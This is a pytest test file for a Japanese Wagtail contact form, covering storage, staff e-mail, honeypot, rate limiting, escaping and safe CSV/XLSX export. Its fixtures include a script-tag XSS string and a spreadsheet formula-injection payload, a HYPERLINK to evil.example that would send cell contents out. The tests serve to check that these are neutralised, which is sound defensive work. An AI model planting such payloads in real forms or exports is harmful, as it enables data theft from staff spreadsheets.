"""お問い合わせ: the contact form stores, e-mails, rate-limits and keeps out bots."""

import csv
import io

import openpyxl
import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from wagtail.contrib.forms.models import FormSubmission

SCRIPT = "<script>alert('x')</script><b>太字</b>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'


@pytest.fixture
def fields(contact_page):
    """The form's field names, by label."""
    return {field.label: field.clean_name for field in contact_page.form_fields.all()}


@pytest.fixture
def message(fields):
    return {
        fields["お名前"]: "山田 花子",
        fields["メールアドレス"]: "hanako@example.jp",
        fields["お問い合わせ内容"]: "電子申請の導入について相談したいです。",
    }


def _html(response):
    return response.content.decode()


def test_a_message_is_stored_and_emailed_to_staff(client, contact_page, message):
    response = client.post(contact_page.url, message)

    assert response.status_code == 200
    assert "articles/contact_page_landing.html" in [t.name for t in response.templates]
    submission = FormSubmission.objects.get(page=contact_page)
    assert submission.get_data()["u304au540du524d"] == "山田 花子"
    assert "website" not in submission.form_data
    assert len(mail.outbox) == 1
    email = mail.outbox[0]
    assert email.to == ["staff@example.jp"]
    assert email.subject == "お問い合わせがありました"
    assert "お問い合わせ内容: 電子申請の導入について相談したいです。" in email.body
    assert "website" not in email.body


def test_a_bot_filling_the_honeypot_sees_thanks_but_nothing_is_kept(client, contact_page, message):
    response = client.post(contact_page.url, {**message, "website": "https://spam.example"})

    assert response.status_code == 200
    assert "articles/contact_page_landing.html" in [t.name for t in response.templates]
    assert not FormSubmission.objects.exists()
    assert mail.outbox == []


def test_the_sixth_message_within_ten_minutes_is_refused_and_keeps_the_text(
    client, contact_page, message
):
    for _ in range(5):
        assert client.post(contact_page.url, message).status_code == 200

    response = client.post(contact_page.url, message)

    html = _html(response)
    assert response.status_code == 429
    assert "短時間に何度も送信されました。数分待ってからもう一度送信してください。" in html
    assert "電子申請の導入について相談したいです。</textarea>" in html
    assert 'value="山田 花子"' in html
    assert FormSubmission.objects.count() == 5
    assert len(mail.outbox) == 5


def test_the_limit_is_per_visitor(client, contact_page, message):
    for _ in range(5):
        client.post(contact_page.url, message)

    response = client.post(contact_page.url, message, REMOTE_ADDR="198.51.100.7")

    assert response.status_code == 200
    assert FormSubmission.objects.count() == 6


def test_messages_with_mistakes_do_not_count_towards_the_limit(client, contact_page, message):
    incomplete = {key: value for key, value in message.items() if value != "山田 花子"}
    for _ in range(6):
        client.post(contact_page.url, incomplete)

    response = client.post(contact_page.url, message)

    assert response.status_code == 200
    assert FormSubmission.objects.count() == 1


def test_a_message_over_4000_characters_is_refused_and_kept(client, contact_page, fields, message):
    long_text = "地域の声" * 1001
    response = client.post(contact_page.url, {**message, fields["お問い合わせ内容"]: long_text})

    html = _html(response)
    assert "この値は 4000 文字以下でなければなりません( 4004 文字になっています)。" in html
    assert f"{long_text}</textarea>" in html
    assert 'maxlength="4000"' not in html
    assert not FormSubmission.objects.exists()


def test_a_missing_required_field_is_shown_and_other_input_kept(client, contact_page, fields):
    response = client.post(
        contact_page.url,
        {fields["お名前"]: "山田 花子", fields["メールアドレス"]: "hanako@example.jp"},
    )

    html = _html(response)
    assert response.status_code == 200
    missing = fields["お問い合わせ内容"]
    # "必須" (required) comes from Django's and Wagtail's own ja catalogs.
    assert f'<a href="#id_{missing}">お問い合わせ内容：この項目は必須です</a>' in html
    assert 'aria-invalid="true"' in html
    assert 'value="山田 花子"' in html
    assert 'value="hanako@example.jp"' in html
    assert not FormSubmission.objects.exists()
    assert mail.outbox == []


def test_markup_in_a_message_is_kept_as_text(client, contact_page, message, fields):
    client.post(contact_page.url, {**message, fields["お問い合わせ内容"]: SCRIPT})

    submission = FormSubmission.objects.get()
    assert submission.get_data()[fields["お問い合わせ内容"]] == SCRIPT
    email = mail.outbox[0]
    assert f"お問い合わせ内容: {SCRIPT}" in email.body
    assert email.alternatives == []  # plain text only: nothing for a mail client to run


def test_text_spoofing_characters_are_removed_from_a_message(client, contact_page, message, fields):
    """「山田\u202e子花」 would read as another name on the staff's list of messages."""
    client.post(
        contact_page.url,
        {
            **message,
            fields["お名前"]: "山田\u202e子花",
            fields["お問い合わせ内容"]: "相談\u2066です\u2069",
        },
    )

    data = FormSubmission.objects.get().get_data()
    assert (data[fields["お名前"]], data[fields["お問い合わせ内容"]]) == ("山田子花", "相談です")
    assert "\u202e" not in mail.outbox[0].body and "\u2066" not in mail.outbox[0].body


def test_markup_in_a_message_is_escaped_in_the_staff_listing(
    client, contact_page, message, fields, editor
):
    client.post(contact_page.url, {**message, fields["お問い合わせ内容"]: SCRIPT})
    client.force_login(editor)

    response = client.get(reverse("wagtailforms:list_submissions", args=[contact_page.pk]))

    html = _html(response)
    assert response.status_code == 200
    assert "&lt;script&gt;alert(" in html
    assert "<script>alert(" not in html


def test_the_error_summary_is_the_sites_shared_one_and_appears_once(client, contact_page, fields):
    response = client.post(contact_page.url, {fields["お名前"]: "山田 花子"})

    assert "includes/error_summary.html" in [t.name for t in response.templates]
    assert _html(response).count('class="error-summary"') == 1


def _export(client, contact_page, kind):
    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk]) + f"?export={kind}"
    response = client.get(url)
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


def test_the_staff_csv_opens_in_excel_and_never_runs_what_a_visitor_typed(
    client, contact_page, message, fields, editor
):
    """Japanese Excel garbled the CSV without a BOM, and ran a name or message typed as a
    formula (HYPERLINK could send the other rows elsewhere)."""
    client.post(
        contact_page.url,
        {**message, fields["お名前"]: "@山田", fields["お問い合わせ内容"]: FORMULA},
        REMOTE_ADDR="198.51.100.8",
    )
    client.force_login(editor)

    response, body = _export(client, contact_page, "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith("\ufeff".encode())
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert header == ["送信日", "お名前", "メールアドレス", "お問い合わせ内容"]
    sent = timezone.localtime(FormSubmission.objects.get().submit_time)  # Japan time
    assert row == [f"{sent:%Y-%m-%d %H:%M:%S}", "'@山田", "hanako@example.jp", "'" + FORMULA]


def test_the_staff_xlsx_keeps_a_formula_a_visitor_typed_as_text(
    client, contact_page, message, fields, editor
):
    client.post(contact_page.url, {**message, fields["お問い合わせ内容"]: FORMULA + "\x01"})
    client.force_login(editor)

    _, body = _export(client, contact_page, "xlsx")

    cell = openpyxl.load_workbook(io.BytesIO(body)).active["D2"]
    assert cell.value == FORMULA
    assert cell.data_type == "s"
